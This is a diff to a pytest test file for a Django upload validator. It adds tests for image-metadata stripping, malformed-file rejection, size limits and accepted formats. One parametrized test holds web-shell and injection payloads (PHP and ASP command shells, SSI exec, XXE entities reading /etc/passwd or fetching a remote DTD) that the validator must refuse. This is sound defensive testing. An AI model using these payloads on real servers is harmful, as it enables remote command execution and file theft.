@@ -12,6 +12,7 @@ from django.core.exceptions import ValidationError
 from PIL import ExifTags, Image, ImageCms, ImageOps, PngImagePlugin
 
 from evidence.file_checks import (
+    ACCEPTED_FORMATS,
     ACCEPTED_TYPES,
     CSV,
     DOCX,
@@ -25,10 +26,14 @@ from evidence.file_checks import (
     WEBP,
     XLSX,
     SniffResult,
+    accepted_extension,
+    accepted_formats_text,
     clean_filename,
+    max_upload_bytes,
     sniff_and_check,
     strip_image_metadata,
 )
+from evidence.forms import ACCEPT_ATTRIBUTE, formats_help
 
 MINIMAL_PDF = (
     b"%PDF-1.4\n"
@@ -459,6 +464,33 @@ def test_stripping_keeps_the_orientation_as_the_only_exif_tag(tmp_path, fmt):
     assert "Cámara".encode() not in (tmp_path / "limpia").read_bytes()
 
 
+def test_orientation_kept_only_in_xmp_becomes_an_exif_orientation(tmp_path):
+    # Some editors write the orientation to XMP alone; Pillow and ExifTool honour it.
+    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><tiff:Orientation>6</tiff:Orientation></x:xmpmeta>'
+    plain = noisy_image("JPEG")
+    content = plain[:2] + jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + xmp) + plain[2:]
+    with Image.open(io.BytesIO(content)) as original:
+        assert original.getexif()[ExifTags.Base.Orientation] == 6
+
+    clean = stripped(tmp_path, content)
+
+    assert b"xmpmeta" not in clean
+    with Image.open(io.BytesIO(clean)) as copy:
+        assert dict(copy.getexif()) == {ExifTags.Base.Orientation: 6}
+        assert copy.tobytes() == Image.open(io.BytesIO(content)).tobytes()
+
+
+def test_exif_orientation_wins_over_xmp(tmp_path):
+    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/" tiff:Orientation="8"/>'
+    content = image_bytes("JPEG", orientation=3)
+    content = (
+        content[:2] + jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + xmp) + (content[2:])
+    )
+
+    with Image.open(io.BytesIO(stripped(tmp_path, content))) as copy:
+        assert dict(copy.getexif()) == {ExifTags.Base.Orientation: 3}
+
+
 @pytest.mark.parametrize("fmt", IMAGE_FORMATS)
 def test_upright_orientation_leaves_no_exif_at_all(tmp_path, fmt):
     clean = stripped(tmp_path, image_bytes(fmt, orientation=1))
@@ -495,7 +527,11 @@ def _flip_byte(content: bytes, position: int) -> bytes:
         pytest.param(lambda: noisy_image("JPEG")[:1500], id="jpeg-cut-in-scan"),
         pytest.param(lambda: image_bytes("JPEG")[:40], id="jpeg-cut-in-segment"),
         pytest.param(lambda: b"\xff\xd8\xff\xd9", id="jpeg-without-scan"),
-        pytest.param(lambda: b"\xff\xd8\x00" + image_bytes("JPEG")[2:], id="jpeg-junk"),
+        pytest.param(
+            lambda: b"\xff\xd8\xff\x9f\x00\x04ab" + image_bytes("JPEG")[2:],
+            id="jpeg-unknown-marker",
+        ),
+        pytest.param(lambda: b"\xff\xd8" + b"\x00" * 64, id="jpeg-only-junk"),
         pytest.param(lambda: b"\xff\xd8\xff\xe0\x00\x01", id="jpeg-bad-length"),
         pytest.param(lambda: noisy_image("PNG")[:-6], id="png-truncated"),
         pytest.param(lambda: _flip_byte(noisy_image("PNG"), 100), id="png-bad-crc"),
@@ -593,6 +629,48 @@ def test_hostile_file_is_rejected(upload, name, build, code):
     assert rejection_code(upload, name, build()) == code
 
 
+TEXT_MARKUP_MESSAGE = (
+    "El archivo de texto contiene código HTML, de script o de servidor (PHP, ASP, SSI) o "
+    "declaraciones XML y no se acepta."
+)
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        # Payload strings of PayloadsAllTheThings ("Upload Insecure Files") and fuzzdb
+        # (attack/file-upload), built here rather than committed.
+        pytest.param(b"<?=`$_GET[0]`?>", id="php-short-echo-tag"),
+        pytest.param(b"<?php echo 'Shell';system($_GET['cmd']); ?>", id="php"),
+        pytest.param(b'<script language="php">system("id");</script>', id="php-script-tag"),
+        pytest.param(b'<% eval request("cmd") %>', id="asp"),
+        pytest.param(b'<%@ page import="java.io.*" %>', id="jsp"),
+        pytest.param(b'<!--#exec cmd="ls" -->', id="ssi-exec"),
+        pytest.param(b'<!--#include virtual="/etc/passwd" -->', id="ssi-include"),
+        pytest.param(
+            b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>',
+            id="xml-doctype-entity",
+        ),
+        pytest.param(b'<!ENTITY % x SYSTEM "http://x.mx/e.dtd">', id="xml-parameter-entity"),
+    ],
+)
+@pytest.mark.parametrize("name", ["datos.csv", "notas.txt"])
+def test_server_code_and_xml_declarations_in_text_are_refused(upload, name, payload):
+    content = "nombre,municipio\nJosé,Oaxaca\n".encode() * 400 + payload + b"\n"
+
+    with pytest.raises(ValidationError) as exc_info:
+        upload(name, content)
+
+    assert exc_info.value.code == "embedded_markup"
+    assert exc_info.value.messages == [TEXT_MARKUP_MESSAGE]
+
+
+def test_honest_text_with_angle_brackets_is_accepted(upload):
+    content = b"indicador,meta\navance,<50% en 2025\nrespuesta,a < b y c > d\n"
+
+    assert upload("datos.csv", content).mime_type == CSV
+
+
 def test_markup_split_across_read_chunks_is_found(upload, monkeypatch):
     monkeypatch.setattr("evidence.file_checks.CHUNK_BYTES", 16)
     # Past the bytes libmagic sniffs, so only the chunked body scan can see it.
@@ -618,10 +696,42 @@ def test_empty_file_message(upload):
 
 
 def test_file_over_the_configured_limit_is_rejected(upload, settings):
-    settings.EVIDENCE_MAX_UPLOAD_BYTES = 100
+    settings.EVIDENCE_MAX_UPLOAD_BYTES = len(MINIMAL_PDF)
 
-    assert rejection_code(upload, "acta.pdf", MINIMAL_PDF + b"%" * 100) == "file_too_large"
-    assert upload("acta.pdf", MINIMAL_PDF[:100]).mime_type == PDF
+    assert rejection_code(upload, "acta.pdf", MINIMAL_PDF + b"%") == "file_too_large"
+    assert upload("acta.pdf", MINIMAL_PDF).mime_type == PDF
+
+
+def test_shipped_limit_is_50_mib(upload, tmp_path):
+    # Reads the setting as shipped: no override here.
+    limit = 50 * 1024 * 1024
+    assert max_upload_bytes() == limit
+    path = tmp_path / "acta.pdf"
+    path.write_bytes(MINIMAL_PDF)
+
+    assert sniff_and_check(name="acta.pdf", path=path, size=limit).size == limit
+    with pytest.raises(ValidationError) as exc_info:
+        sniff_and_check(name="acta.pdf", path=path, size=limit + 1)
+
+    assert exc_info.value.code == "file_too_large"
+    assert exc_info.value.messages == ["El archivo pesa más de 50 MB, el máximo permitido."]
+
+
+def test_users_read_the_formats_from_the_one_list():
+    labels = [accepted.label for accepted in ACCEPTED_FORMATS]
+    extensions = [ext for accepted in ACCEPTED_FORMATS for ext in accepted.extensions]
+
+    assert list(ACCEPTED_TYPES) == extensions
+    assert accepted_formats_text() == ", ".join(labels[:-1]) + " o " + labels[-1]
+    assert formats_help() == (
+        "PDF, JPG, PNG, WebP, DOCX, XLSX, PPTX, ODT, ODS, CSV o TXT; hasta 50 MB por envío."
+    )
+    assert ",".join(f".{ext}" for ext in extensions) == ACCEPT_ATTRIBUTE
+    with pytest.raises(ValidationError) as exc_info:
+        accepted_extension(name="programa.exe")
+    assert exc_info.value.messages == [
+        f"La extensión .exe no está permitida. Formatos aceptados: {accepted_formats_text()}."
+    ]
 
 
 def test_zip_limits_come_from_settings(upload, settings):
